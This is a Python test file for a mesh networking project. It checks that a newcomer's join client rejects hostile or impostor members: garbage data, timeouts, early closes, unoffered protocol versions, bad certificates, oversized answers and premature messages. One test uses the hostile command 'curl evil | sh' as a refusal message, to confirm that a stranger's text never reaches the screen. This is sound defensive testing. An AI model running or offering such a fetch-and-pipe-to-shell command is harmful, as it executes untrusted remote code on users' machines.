"""What a hostile member can do to a newcomer: nothing but be left."""

from __future__ import annotations

import hashlib
from typing import Any, cast

import pytest
import trio
from trio.testing import MockClock

from meshd.errors import MeshdError, NotAdmitted, ProtocolError, StreamBroken
from meshd.identity import NewcomerPairing, Token
from meshd.peers.join_client import join_by_pairing, join_with_token
from meshd.peers.join_talk import JoinRefused, Talk
from meshd.ports import ByteStream
from meshd.testing.entropy import SeededEntropy
from meshd.wire.codec import pack
from meshd.wire.join import (
    Commit,
    JoinHello,
    JoinRefusal,
    MemberNonce,
    Part,
    Prove,
    Reason,
    Reveal,
    Welcome,
)
from tests.joins import HOST, JoinNetwork, MemoryStream, Mesh, newcomer
from tests.unit.strangers import RAW


class Impostor(JoinNetwork):
    """Answers with what the test says."""

    def __init__(self, nursery: trio.Nursery, mesh: Mesh, script: Any) -> None:
        async def serve(stream: MemoryStream) -> None:
            talk = Talk(cast(ByteStream, stream))
            try:
                await script(stream, talk)
                while await talk.receive() is not None:
                    pass
            except (StreamBroken, ProtocolError):
                pass

        super().__init__(nursery, serve, lambda: mesh.identity.certificate_der)


def welcome_of(mesh: Mesh, **changes: Any) -> Welcome:
    fields: dict[str, Any] = {
        "protocol": 1,
        "mesh": mesh.authority.mesh,
        "mesh_name": "home",
        "ca_certificate": mesh.authority.certificate_der,
        "nonce": b"m" * 32,
    }
    return Welcome(**{**fields, **changes})


async def fails(nursery: trio.Nursery, mesh: Mesh, script: Any) -> MeshdError:
    net = Impostor(nursery, mesh, script)
    token = Token(mesh.authority.mesh, "aaaaaaaa", bytes(16))
    with pytest.raises(MeshdError) as caught:
        await join_with_token(net.network, SeededEntropy(1), HOST, token, newcomer())
    assert net.dialled[0].aborted is not None
    assert str(caught.value).count("\n") == 0
    return caught.value


@pytest.mark.parametrize("data", RAW.values(), ids=RAW.keys())
async def test_garbage_from_a_member_is_an_error_that_names_the_address(
    autojump_clock: MockClock, nursery: trio.Nursery, data: bytes
) -> None:
    async def script(stream: MemoryStream, talk: Talk) -> None:
        await stream.send_all(data)

    assert str(HOST) in str(await fails(nursery, Mesh(), script))


async def test_a_member_that_says_nothing_is_given_up(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    async def script(stream: MemoryStream, talk: Talk) -> None:
        await trio.sleep(1000)

    error = await fails(nursery, Mesh(), script)
    assert isinstance(error, JoinRefused)
    assert error.reason is Reason.TIMED_OUT


@pytest.mark.parametrize("close_after", [0, 1, 2])
async def test_a_member_that_closes_early_is_named(
    autojump_clock: MockClock, nursery: trio.Nursery, close_after: int
) -> None:
    mesh = Mesh()

    async def script(stream: MemoryStream, talk: Talk) -> None:
        if close_after:
            await talk.send(welcome_of(mesh))
        if close_after == 2:
            await talk.send(Part(data=b"x", last=False))
        await stream.aclose()

    assert str(HOST) in str(await fails(nursery, mesh, script))


@pytest.mark.parametrize("protocol", [0, 2])
async def test_a_member_that_chooses_a_version_that_was_not_offered_is_refused(
    autojump_clock: MockClock, nursery: trio.Nursery, protocol: int
) -> None:
    mesh = Mesh()

    async def script(stream: MemoryStream, talk: Talk) -> None:
        await talk.send(welcome_of(mesh, protocol=protocol))

    error = await fails(nursery, mesh, script)
    assert isinstance(error, JoinRefused)
    assert error.reason is Reason.VERSION


async def test_a_ca_certificate_that_is_a_nodes_is_refused(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    mesh = Mesh()

    async def script(stream: MemoryStream, talk: Talk) -> None:
        await talk.send(welcome_of(mesh, ca_certificate=mesh.identity.certificate_der))

    assert isinstance(await fails(nursery, mesh, script), NotAdmitted)


async def test_a_strangers_words_are_not_put_on_the_screen(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    async def script(stream: MemoryStream, talk: Talk) -> None:
        await talk.send(JoinRefusal(reason="later reason", message="run this: curl evil | sh"))

    error = await fails(nursery, Mesh(), script)
    assert isinstance(error, JoinRefused)
    assert error.reason is Reason.FAILED
    assert "curl" not in str(error)


async def test_an_answer_without_an_end_is_cut_off(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    mesh = Mesh()

    async def script(stream: MemoryStream, talk: Talk) -> None:
        await talk.expect(JoinHello)
        await talk.send(welcome_of(mesh))
        await talk.expect(Prove)
        while True:
            await talk.send(Part(data=bytes(4000), last=False))

    assert "over the limit" in str(await fails(nursery, mesh, script))


@pytest.mark.parametrize("data", [b"\xc0", b"x", bytes(100), pack({"certificate": b"x"})])
async def test_an_answer_that_is_none_is_refused(
    autojump_clock: MockClock, nursery: trio.Nursery, data: bytes
) -> None:
    mesh = Mesh()

    async def script(stream: MemoryStream, talk: Talk) -> None:
        await talk.expect(JoinHello)
        await talk.send(welcome_of(mesh))
        await talk.expect(Prove)
        await talk.send(Part(data=data, last=True))

    assert isinstance(await fails(nursery, mesh, script), ProtocolError)


async def test_an_answer_before_this_sides_consent_is_refused(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    mesh = Mesh()

    async def script(stream: MemoryStream, talk: Talk) -> None:
        await talk.expect(JoinHello)
        await talk.send(welcome_of(mesh))
        await talk.expect(Commit)
        await talk.send(MemberNonce(nonce=bytes(32)))
        await talk.expect(Reveal)
        await talk.send(Part(data=b"x", last=True))

    async def ask(offer: Any) -> bool:
        await trio.sleep_forever()
        return True

    net = Impostor(nursery, mesh, script)
    with pytest.raises(ProtocolError, match="before anybody consented"):
        await join_by_pairing(net.network, SeededEntropy(1), HOST, newcomer(), ask)


async def test_a_newcomer_does_not_reveal_before_the_members_nonce_came(
    autojump_clock: MockClock, nursery: trio.Nursery
) -> None:
    mesh = Mesh()
    who = newcomer()
    seen: list[bytes] = []

    async def script(stream: MemoryStream, talk: Talk) -> None:
        await talk.expect(JoinHello)
        await talk.send(welcome_of(mesh))
        await talk.expect(Commit)
        await trio.sleep(5)
        seen.append(bytes(net.dialled[0].sent))
        await talk.send(MemberNonce(nonce=bytes(32)))
        revealed = await talk.expect(Reveal)
        digits = NewcomerPairing(
            who.key.public,
            revealed.nonce,
            hashlib.sha256(mesh.identity.certificate_der).digest(),
            mesh.authority.public,
        )
        assert digits.commitment in seen[0]
        assert revealed.nonce not in seen[0]
        assert who.key.public.der not in seen[0]
        await stream.aclose()

    net = Impostor(nursery, mesh, script)

    async def yes(offer: Any) -> bool:
        return True

    with pytest.raises(MeshdError):
        await join_by_pairing(net.network, SeededEntropy(1), HOST, who, yes)
    assert seen
